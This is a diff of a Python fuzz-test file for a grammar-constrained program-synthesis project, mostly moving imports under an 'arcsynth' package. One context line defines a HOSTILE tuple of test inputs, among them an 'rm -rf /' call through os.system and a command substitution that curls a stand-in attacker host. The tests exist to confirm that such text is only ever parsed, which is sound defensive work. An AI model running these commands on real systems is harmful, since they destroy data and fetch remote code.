@@ -26,10 +26,10 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from dsl import REGISTRY, DSLError, Grid, Limits, check, parse, run_program, to_text
-from dsl.library import list_solutions, read_program
-from dsl.sampler import sample_programs
-from engine.task import TaskFormatError, load_dir, load_kaggle, load_task_file, task_from_json
+from arcsynth.dsl import REGISTRY, DSLError, Grid, Limits, check, parse, run_program, to_text
+from arcsynth.dsl.library import list_solutions, read_program
+from arcsynth.dsl.sampler import sample_programs
+from arcsynth.core.task import TaskFormatError, load_dir, load_kaggle, load_task_file, task_from_json
 
 SCALE = float(os.environ.get("ARCSYNTH_FUZZ_SCALE", "1"))
 #: Seconds any single parse / load may take before it counts as a hang.
@@ -331,7 +331,7 @@ HOSTILE = ("__import__('os').system('rm -rf /')", "$(curl http://evil.example/x.
 @pytest.fixture(scope="module")
 def hostile_tokenizer():  # type: ignore[no-untyped-def]
     """A byte-level BPE tokenizer trained on programs *and* hostile text, so whole hostile words are single tokens."""
-    from engine.lm_tokenizer import build_tokenizer
+    from arcsynth.lm.tokenizer import build_tokenizer
     return build_tokenizer(list(seed_programs()[:200]) + list(HOSTILE) * 20, vocab_size=600)
 
 
@@ -416,7 +416,7 @@ def test_hostile_model_output_is_only_ever_parsed(hostile_tokenizer) -> None:  #
     nothing reaches eval/exec or a shell (those are tripwires here)."""
     import tracemalloc
 
-    from engine.constrained import GrammarConstraint
+    from arcsynth.lm.constrained import GrammarConstraint
     tok = hostile_tokenizer
     texts = {i: tok.decode([i]) for i in range(len(tok))}
     longest = max(len(t) for t in texts.values())
